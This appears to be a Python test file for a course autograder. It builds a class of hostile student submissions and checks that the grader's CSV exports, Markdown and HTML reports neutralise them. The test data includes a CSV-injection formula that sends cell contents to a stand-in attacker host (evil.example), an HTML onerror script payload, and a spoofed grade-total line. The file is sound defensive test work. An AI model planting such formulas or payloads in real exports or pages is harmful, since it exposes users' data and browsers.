"""A class run never stops on one submission, and what a student wrote stays inert (issue 19).

One class, graded once (``batch`` with ``--report``, a roster and both gradebook exports), holds
an honest student beside one submission for each way a student once stopped the run or wrote
into the instructor's files; the same honest student graded alone is the baseline their row and
JSON must equal. Cheap: the course is one exercise (kv_cache).
"""

from __future__ import annotations

import csv
import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
from submission_tools import KIT, SOLUTIONS, grader_command, make_submission

from grader.core import engine

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
HTML = "<img src=x onerror=alert(1)>"
FAKE_TOTAL = "total          100 / 100"
RAISES_SURROGATE = f"""
def kv_cache_mask(n_cached, n_new):
    raise ValueError("bad \\ud800 input\\n\\n{FAKE_TOTAL}\\n")
"""

def one_exercise_course(path: Path, exercise: str = "kv_cache") -> Path:
    """A course of ``exercise`` alone (every other exercise disabled)."""
    lines = [f"[exercises.{name}]\nenabled = {str(name == exercise).lower()}\n"
             for name in engine.load().names()]
    path.write_text("\n".join(lines))
    return path


def key_copy(folder: Path, files: dict[str, str] | None = None) -> Path:
    return make_submission(folder, files)


def build_hostile_class(root: Path) -> None:
    root.mkdir(parents=True)
    key_copy(root / "ada")
    key_copy(Path(os.fsdecode(bytes(root) + b"/caf\xe9-latin1")))  # not UTF-8 (case 2)
    key_copy(root / "surrogate", {"kv_cache.py": RAISES_SURROGATE})  # case 3
    deep = key_copy(root / "deep")  # case 4: deeper than a path can be read
    here = os.getcwd()
    try:
        os.chdir(deep)
        for _ in range(24):
            os.mkdir("d" * 200)
            os.chdir("d" * 200)
    finally:
        os.chdir(here)
    many = key_copy(root / "many-files")
    for i in range(engine.MAX_ENTRIES + 1):
        (many / f"empty{i}").touch()
    key_copy(root / FORMULA.replace("/", "|"))  # case 6: a folder named like a formula
    key_copy(root / HTML.replace("/", "|"))
    # The red team's: two folders whose names once escaped alike (the second's row was lost),
    # one named for Canvas's Points Possible row, and a helper file too deep for the parser.
    key_copy(Path(os.fsdecode(bytes(root) + b"/bob\xa0")))
    key_copy(root / "bob\u00a0", {"kv_cache.py": RAISES_SURROGATE})
    key_copy(root / "Points Possible", {"kv_cache.py": RAISES_SURROGATE})
    key_copy(root / "deep-helper", {"helper.py": "x" + ".y" * 200_000 + "\n"})


def write_roster(path: Path, root: Path) -> Path:
    with open(path, "w", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["folder", "id", "name", "email"])
        for folder in sorted(os.listdir(root)):
            name = os.fsdecode(folder)
            if name == "Points Possible":  # not in the roster: Canvas shows its folder name
                continue
            writer.writerow([name if name.isprintable() else "", "-1+1", FORMULA, "@SUM(A1)"])
    return path


def run_batch(root: Path, out: Path, course: Path, *extra: str) -> subprocess.CompletedProcess:
    return subprocess.run(
        grader_command(sys.executable, "batch", str(root), "--csv", str(out / "grades.csv"),
                       "--json-dir", str(out / "json"), "--report", str(out / "report"),
                       "--course", str(course), "--jobs", "2", *extra, rule=False),
        capture_output=True, text=True, cwd=KIT, timeout=600)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    base = tmp_path_factory.mktemp("class-run")
    course = one_exercise_course(base / "course.toml")
    root = base / "class"
    build_hostile_class(root)
    roster = write_roster(base / "roster.csv", root)
    done = run_batch(root, base / "out", course, "--roster", str(roster),
                     "--export", "canvas", str(base / "out" / "canvas.csv"),
                     "--export", "gradescope", str(base / "out" / "gradescope.csv"))
    alone = base / "alone"
    key_copy(alone / "ada")
    baseline = run_batch(alone, base / "baseline", course)
    return base, done, baseline


def rows(path: Path) -> dict[str, dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return {row["student"]: row for row in csv.DictReader(handle)}


def scores(row: dict[str, str]) -> dict[str, str]:
    return {k: row[k] for k in ("kv_cache", "total", "status", "bonus_total")}


def test_the_run_finishes_and_the_honest_row_and_json_are_untouched(hostile):
    base, done, baseline = hostile
    assert done.returncode == 0, done.stderr
    assert baseline.returncode == 0, baseline.stderr
    assert "Traceback" not in done.stderr
    assert rows(base / "out" / "grades.csv")["ada"] == {  # the roster adds its columns
        **rows(base / "baseline" / "grades.csv")["ada"], "id": "'-1+1", "name": "'" + FORMULA,
        "email": "'@SUM(A1)"}
    assert (base / "out" / "json" / "ada.json").read_bytes() == (
        base / "baseline" / "json" / "ada.json").read_bytes()


def test_folders_whose_names_escape_alike_keep_a_row_each(hostile):
    table = rows(hostile[0] / "out" / "grades.csv")
    assert table["bob\\xa0"]["total"] == "15"  # the key
    assert table["bob\\u00a0"]["total"] != "15"  # a kv_cache that raises: its own row
    assert table["deep-helper"]["total"] == "15"  # a helper nothing imports costs nothing


def test_no_student_line_passes_for_canvas_points_possible_row(hostile):
    with open(hostile[0] / "out" / "canvas.csv", newline="") as handle:
        first_cells = [line[0] for line in csv.reader(handle)]
    assert [c for c in first_cells if "Points Possible" in c] == ["    Points Possible"]
    assert "Points_Possible" in first_cells


def test_a_students_message_stays_on_one_line_of_feedback(hostile):
    results = json.loads((hostile[0] / "out" / "json" / "surrogate.json").read_text())
    lines = [line for test in results["tests"] for line in test["output"].splitlines()]
    assert any(FAKE_TOTAL in line for line in lines)
    assert not any(line.startswith("total") for line in lines)


def test_a_folder_name_that_is_not_utf8_gets_its_own_row(hostile):
    """Case 2: such a folder once left grades.csv with only its header."""
    base = hostile[0]
    row = rows(base / "out" / "grades.csv")["caf\\xe9-latin1"]
    assert scores(row) == {"kv_cache": "15", "total": "15", "status": "graded",
                           "bonus_total": "0"}
    assert (base / "out" / "json" / "caf\\xe9-latin1.json").is_file()


def test_a_lone_surrogate_in_a_message_does_not_stop_the_report(hostile):
    """Case 3: summary.md and index.html were never written."""
    report = hostile[0] / "out" / "report"
    for name in ("summary.json", "summary.md", "index.html"):
        (report / name).read_text(encoding="utf-8")  # written, and valid UTF-8
    summary = json.loads((report / "summary.json").read_text())
    assert "\\ud800" in summary["exercises"]["kv_cache"]["errors"].get("surrogate", "") or any(
        "surrogate" in c["failed_students"] for c in summary["checks"].values())


def test_paths_too_deep_or_too_many_files_are_a_status(hostile):
    """Case 4: a path deeper than the system allows crashed `grade`; 100,000 empty files cost
    30 s of copying no limit counted."""
    table = rows(hostile[0] / "out" / "grades.csv")
    assert table["deep"]["total"] == ""
    assert table["deep"]["status"] == ("not graded: a path in the submission is longer than "
                                       f"{engine.MAX_PATH} characters")
    assert table["many-files"]["status"] == ("not graded: the submission holds more than "
                                      f"{engine.MAX_ENTRIES} files and folders (hidden ones "
                                      "aside)")


def test_grade_says_why_in_its_json_and_exits_2(tmp_path):
    deep = key_copy(tmp_path / "deep")
    os.chdir(deep)
    try:
        for _ in range(24):
            os.mkdir("d" * 200)
            os.chdir("d" * 200)
    finally:
        os.chdir(KIT)
    out = subprocess.run(grader_command(sys.executable, "grade", str(deep), "--exercise",
                                        "kv_cache", "--json", str(tmp_path / "r.json")),
                         capture_output=True, text=True, cwd=KIT, timeout=120)
    assert out.returncode == 2
    assert "Traceback" not in out.stderr
    result = json.loads((tmp_path / "r.json").read_text())
    assert result["score"] == 0 and "longer than" in result["output"]


def test_every_csv_cell_is_inert(hostile):
    """Case 6: cells starting with = + - @ were written as they came, roster columns too."""
    base = hostile[0] / "out"
    for name in ("grades.csv", "canvas.csv", "gradescope.csv"):
        with open(base / name, newline="", encoding="utf-8") as handle:
            for row in csv.reader(handle):
                for cell in row:
                    assert not cell.startswith(("=", "+", "@", "\t", "\r")), (name, cell)
                    assert not cell.startswith("-") or re.fullmatch(r"-[\d.]+", cell), cell
    assert "'" + FORMULA.replace("/", "|") in rows(base / "grades.csv")
    assert set(rows(base / "grades.csv")["ada"].values()) >= {"'" + FORMULA, "'-1+1"}


def test_markdown_and_html_show_student_text_as_text(hostile):
    report = hostile[0] / "out" / "report"
    for name in ("summary.md", "index.html"):
        text = (report / name).read_text()
        assert "<img" not in text, name
        assert "&lt;img src=x onerror=alert(1)&gt;" in text, name


def test_printed_output_cannot_pass_for_the_reports_own_lines(tmp_path):
    """Case 6: a student's print put `total 100 / 100` on a line of its own in the report."""
    folder = key_copy(tmp_path / "s", {"kv_cache.py": (SOLUTIONS / "kv_cache.py").read_text()
                                       + f'\nprint("\\n{FAKE_TOTAL}\\n")\n'})
    out = subprocess.run(grader_command(sys.executable, "grade", str(folder), "--exercise",
                                        "kv_cache", "--show-output"),
                         capture_output=True, text=True, cwd=KIT, timeout=120)
    totals = [line for line in out.stdout.splitlines() if line.startswith("total")]
    assert totals == ["total          15 / 15"], out.stdout
    assert f"  | {FAKE_TOTAL}" in out.stdout.splitlines()
